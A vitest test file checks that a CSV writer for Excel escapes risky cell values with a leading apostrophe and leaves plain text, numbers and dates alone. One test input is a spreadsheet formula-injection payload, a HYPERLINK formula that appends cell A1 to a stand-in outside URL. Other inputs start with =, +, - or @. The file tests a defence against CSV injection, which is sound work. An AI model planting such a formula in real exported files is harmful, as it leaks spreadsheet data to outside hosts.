import { describe, expect, test } from 'vitest';
import type { CellKind } from './table-file.ts';
import { sampleTable } from './table-sample.fixture.ts';
import { writeExcelCsv } from './write-csv.ts';

/** A table of one column, as Excel gets it: what follows the head. */
function excelCell(cell: string, kind: CellKind): string {
  const columns = [{ name: 'cell', title: sampleTable.title, kind }];
  const bytes = writeExcelCsv({ ...sampleTable, columns, rows: [{ cell }] });
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).slice('\uFEFFcell\r\n'.length, -2);
}

describe('CSV for Excel', () => {
  test.each([
    ['=HYPERLINK("https://a.example/?"&A1,"open")', `"'=HYPERLINK(""https://a.example/?""&A1,""open"")"`],
    ['@示例市场', "'@示例市场"],
    ['+Sample market', "'+Sample market"],
    ['-cleared the same day', "'-cleared the same day"],
    ['＝1+1', "'＝1+1"],
    ['=1\n+1', `"'=1\n+1"`],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['2026-10', "'2026-10"],
    ['3/4', "'3/4"],
    ['0378', "'0378"],
    ['123456789012345678', "'123456789012345678"],
    ['2e10', "'2e10"],
    ['MAR1', "'MAR1"],
    ['1E-5', "'1E-5"],
    ['6月25日', "'6月25日"],
    ['2024年5月', "'2024年5月"],
    ['2024年5月1日', "'2024年5月1日"],
    ['8时30分', "'8时30分"],
    ['TRUE', "'TRUE"],
    ['false', "'false"],
    ['5%', "'5%"],
    ['12.5％', "'12.5％"],
    ['1 1/2', "'1 1/2"],
    ['(5)', "'(5)"],
    ['(5%)', "'(5%)"],
    ['¥5', "'¥5"],
    ['￥ 1234.50', "'￥ 1234.50"],
    ['1,000', `"'1,000"`],
    ['$1,000.50', `"'$1,000.50"`],
  ])('guards the text %j', (cell, guarded) => {
    expect(excelCell(cell, 'text')).toBe(guarded);
    expect(excelCell(cell, 'code')).toBe(guarded);
  });

  test.each([
    '示例 = 1 - 2',
    '’=1',
    '2022 年 10 月',
    '410200',
    'S01;S02',
    '6月',
    '2024年',
    'true north',
    '(五)',
    '5% 以内',
    '5 元',
  ])('leaves the ordinary text %j', (cell) => {
    expect(excelCell(cell, 'text')).toBe(cell);
  });

  test.each([
    ['-5', 'number'],
    ['0.5', 'number'],
    ['95.50', 'number'],
    ['2022-09-01', 'day'],
  ] as const)('leaves %s, a %s, as it is', (cell, kind) => {
    expect(excelCell(cell, kind)).toBe(cell);
  });

  test.each(['=1', '+1', '@a', '2026-10'])('guards %j where a number or a day should be', (cell) => {
    expect(excelCell(cell, 'number')).toBe(`'${cell}`);
    expect(excelCell(cell, 'day')).toBe(`'${cell}`);
  });
});
